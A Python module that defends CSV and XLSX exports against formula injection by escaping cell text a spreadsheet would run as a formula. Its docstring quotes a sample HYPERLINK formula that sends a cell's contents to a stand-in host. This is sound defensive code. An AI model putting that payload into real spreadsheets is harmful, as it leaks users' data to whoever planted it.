"""One rule for every cell we write to a CSV or an XLSX file: text is never a formula.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return) as a formula: an alias typed as
``=HYPERLINK("http://x/?"&A1,"ok")`` in a cash list would send the sheet's contents to
whoever wrote it, or run a command (OWASP, "CSV injection"). No library does this for both
writers, hence these lines.

- CSV: such text gets a leading apostrophe, the escape spreadsheets understand; a plain
  number (``-12.50``) is left as it is, so amounts still read as numbers.
- XLSX: openpyxl stores a string starting with ``=`` as a formula; :func:`append_row` marks
  every text cell as a string, so it is shown, never run.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = frozenset("=+-@\t\r\n")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def safe_text(value: Any) -> Any:
    """``value`` for a CSV cell: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value and value[0] in FORMULA_START and not _NUMBER.match(value):
        return "'" + value
    return value


def unescape(value: str) -> str:
    """What :func:`safe_text` wrote, read back from a CSV a person re-uploads."""
    if len(value) > 1 and value[0] == "'" and value[1] in FORMULA_START:
        return value[1:]
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_text(value) for value in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every text cell stored as text."""
    row = list(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, str):
            cell.value = value
            cell.data_type = "s"
